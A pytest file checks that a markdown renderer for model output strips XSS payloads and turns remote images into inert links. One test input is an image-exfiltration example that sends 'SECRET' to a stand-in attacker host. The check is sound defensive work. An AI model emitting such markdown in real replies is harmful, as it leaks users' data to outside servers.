"""Model output rendered on the server: known injection payloads leave no script, handler or dangerous URL."""

from __future__ import annotations

import pytest

from tests.support.xss import CORPUS, DANGEROUS_TAGS, Findings
from ui.markdown.safe import render


@pytest.mark.parametrize("payload", CORPUS)
def test_no_known_payload_leaves_a_script_url_handler_or_dangerous_tag_in_the_served_html(payload: str) -> None:
    found = Findings(render(payload))
    assert not found.handlers, found.handlers
    assert not found.bad_urls, found.bad_urls
    assert not set(found.tags) & DANGEROUS_TAGS, found.tags
    assert all(s.replace(" ", "") in ("text-align:left", "text-align:right", "text-align:center") for s in found.styles)


def test_the_whole_corpus_at_once_is_just_as_clean() -> None:
    found = Findings(render("\n\n".join(CORPUS)))
    assert not found.handlers and not found.bad_urls and not set(found.tags) & DANGEROUS_TAGS


def test_a_remote_image_becomes_a_link_that_loads_nothing() -> None:
    html = render("See ![the chart](https://attacker.example/c?d=SECRET) and ![](https://x.example/y.png)")
    found = Findings(html)
    assert "img" not in found.tags
    assert found.urls == ["https://attacker.example/c?d=secret", "https://x.example/y.png"]
    assert ">the chart</a>" in html and ">https://x.example/y.png</a>" in html


def test_what_markdown_makes_survives_highlighting_tables_and_safe_links() -> None:
    html = render(
        "# Title\n\n**bold** *em* `code`\n\n```python\ndef f():\n    return 1\n```\n\n"
        "| a | b |\n|:--|--:|\n| 1 | 2 |\n\n> quote\n\n1. one\n2. [link](https://example.org) <mailto:a@b.example>"
    )
    found = Findings(html)
    assert {"h1", "strong", "em", "code", "pre", "table", "th", "td", "blockquote", "ol", "li", "a"} <= set(found.tags)
    assert '<div class="codehilite">' in html and '<span class="k">def</span>' in html
    assert 'style="text-align:left"' in html
    assert found.urls == ["https://example.org", "mailto:a@b.example"]
    assert html.count('rel="noopener noreferrer"') == 2 and html.count('target="_blank"') == 2
